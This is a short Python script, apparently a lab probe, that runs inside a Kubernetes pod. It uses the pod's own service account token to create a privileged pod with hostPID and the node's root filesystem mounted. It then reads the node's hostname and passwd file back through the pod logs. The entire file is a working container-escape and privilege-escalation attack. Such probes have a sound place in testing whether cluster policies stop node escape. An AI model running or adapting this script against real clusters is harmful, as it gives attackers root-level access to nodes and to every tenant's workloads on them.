"""Create a privileged pod with the node's root folder through the pod's own token, and read its words. climb.py NAME.

Runs in a pod; ends by itself.
"""

import json
import os
import ssl
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

ACCOUNT = Path("/var/run/secrets/kubernetes.io/serviceaccount")
SCRIPT = (
    "echo node file: $(head -c 60 /host/etc/hostname /host/etc/passwd 2>&1 | tr '\\n' ' '); ps -e | wc -l; sleep 300"
)


def ask(path: str, body: dict[str, Any] | None = None) -> str:
    """Text of the answer; of an error too."""
    host, port = os.environ["KUBERNETES_SERVICE_HOST"], os.environ["KUBERNETES_SERVICE_PORT"]
    headers = {"Authorization": f"Bearer {(ACCOUNT / 'token').read_text()}", "Content-Type": "application/json"}
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(f"https://{host}:{port}{path}", data=data, headers=headers)
    context = ssl.create_default_context(cafile=str(ACCOUNT / "ca.crt"))
    try:
        with urllib.request.urlopen(request, timeout=10, context=context) as answer:  # noqa: S310 - https
            return str(answer.read().decode())
    except urllib.error.HTTPError as error:
        return str(error.read().decode())


def pod(name: str) -> dict[str, Any]:
    """Everything that a pod should not have."""
    container = {
        "name": "main",
        "image": "lab.loomidi.io/base:1",
        "command": ["sh", "-c", SCRIPT],
        "securityContext": {"privileged": True},
        "volumeMounts": [{"name": "host", "mountPath": "/host"}],
    }
    spec = {
        "hostPID": True,
        "terminationGracePeriodSeconds": 0,
        "restartPolicy": "Never",
        "containers": [container],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    }
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": spec}


def main() -> None:
    """Create, wait for its words, print them."""
    name = sys.argv[1]
    made = ask("/api/v1/namespaces/tenants/pods", pod(name))
    print("created" if '"uid"' in made else made[:300])
    for _ in range(60):
        said = ask(f"/api/v1/namespaces/tenants/pods/{name}/log")
        if "node file:" in said:
            print(said)
            return
        time.sleep(0.5)


if __name__ == "__main__":
    main()
